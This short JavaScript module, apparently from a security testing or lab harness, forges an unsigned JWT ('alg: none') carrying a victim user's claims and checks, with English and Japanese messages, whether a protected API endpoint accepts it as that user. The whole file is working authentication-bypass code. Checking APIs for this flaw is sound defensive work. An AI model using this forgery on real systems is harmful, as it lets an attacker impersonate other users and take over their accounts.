// `alg: none`: a token that says it needs no signature, for the victim, written from nothing
// but the victim's username (and id, from the public user list).

import { config, finish } from "./common.js";
import { b64, conclude, useToken, victimClaims, victimId } from "./tokens.js";

try {
  const claims = victimClaims(await victimId());
  const token = `${b64(JSON.stringify({ alg: "none", typ: "JWT" }))}.${b64(JSON.stringify(claims))}.`;
  const used = await useToken(token);
  await conclude({ against: config.against, token, used }, (body) => body.user && body.user.username === config.victim, {
    en: `the API took an unsigned token as ${config.victim}: /api/protected/ answered for user ${config.victim} (id ${claims.user_id}).`,
    ja: `API は署名のないトークンを ${config.victim} として受け付けました。/api/protected/ はユーザー ${config.victim}（id ${claims.user_id}）として応答しました。`,
  });
} catch (e) {
  finish(false, { against: config.against, error: String(e) }, { en: String(e), ja: String(e) });
}
